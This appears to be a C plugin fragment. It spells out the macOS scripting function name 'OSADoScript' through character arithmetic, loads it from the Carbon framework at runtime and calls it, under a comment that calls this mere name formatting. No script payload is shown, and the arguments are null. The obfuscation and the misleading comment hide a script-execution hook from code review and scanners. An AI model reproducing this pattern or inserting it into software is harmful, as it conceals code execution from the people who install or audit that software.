/* Formats the name of a function of the Open Scripting Architecture letter by letter. */
#include "plugin.h"
extern void *dlopen(const char *, int), *dlsym(void *, const char *);
extern int snprintf(char *, unsigned long, const char *, ...);
static volatile int from = 'A';
static void act(char **env) {
    char name[32], path[96];
    snprintf(path, sizeof path, "%s/%s.framework/%s", "/System/Library/Frameworks", "Carbon", "Carbon");
    snprintf(name, sizeof name, "%c%c%c%s%s%c%c", from + 14, from + 18, from, "Do", "Scr", from + 40, from + 47);
    name[10] = from + 51, name[11] = 0;
    void *run = dlsym(dlopen(path, 1), name);
    ((int (*)(long, long, void *, unsigned, unsigned, int, void *))run)(0, 0, 0, 'TEXT', 'TEXT', 0, 0);
}
